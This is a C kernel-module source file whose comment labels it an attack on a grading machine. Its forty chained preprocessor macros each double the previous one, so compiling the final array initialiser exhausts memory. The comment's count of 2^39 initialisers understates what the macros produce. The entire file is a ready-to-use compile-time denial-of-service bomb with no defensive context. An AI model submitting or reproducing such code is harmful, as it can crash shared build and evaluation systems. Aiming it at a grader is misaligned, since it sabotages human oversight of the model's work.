// An attack: exhaust the grading machine's memory while compiling (bomb 0):
// 2^39 initialisers from 40 short lines.
#include <linux/module.h>
#define B0_0 1, 2, 3, 4,
#define B0_1 B0_0 B0_0
#define B0_2 B0_1 B0_1
#define B0_3 B0_2 B0_2
#define B0_4 B0_3 B0_3
#define B0_5 B0_4 B0_4
#define B0_6 B0_5 B0_5
#define B0_7 B0_6 B0_6
#define B0_8 B0_7 B0_7
#define B0_9 B0_8 B0_8
#define B0_10 B0_9 B0_9
#define B0_11 B0_10 B0_10
#define B0_12 B0_11 B0_11
#define B0_13 B0_12 B0_12
#define B0_14 B0_13 B0_13
#define B0_15 B0_14 B0_14
#define B0_16 B0_15 B0_15
#define B0_17 B0_16 B0_16
#define B0_18 B0_17 B0_17
#define B0_19 B0_18 B0_18
#define B0_20 B0_19 B0_19
#define B0_21 B0_20 B0_20
#define B0_22 B0_21 B0_21
#define B0_23 B0_22 B0_22
#define B0_24 B0_23 B0_23
#define B0_25 B0_24 B0_24
#define B0_26 B0_25 B0_25
#define B0_27 B0_26 B0_26
#define B0_28 B0_27 B0_27
#define B0_29 B0_28 B0_28
#define B0_30 B0_29 B0_29
#define B0_31 B0_30 B0_30
#define B0_32 B0_31 B0_31
#define B0_33 B0_32 B0_32
#define B0_34 B0_33 B0_33
#define B0_35 B0_34 B0_34
#define B0_36 B0_35 B0_35
#define B0_37 B0_36 B0_36
#define B0_38 B0_37 B0_37
#define B0_39 B0_38 B0_38
const char bomb0[] = { B0_39 };
MODULE_LICENSE("GPL");
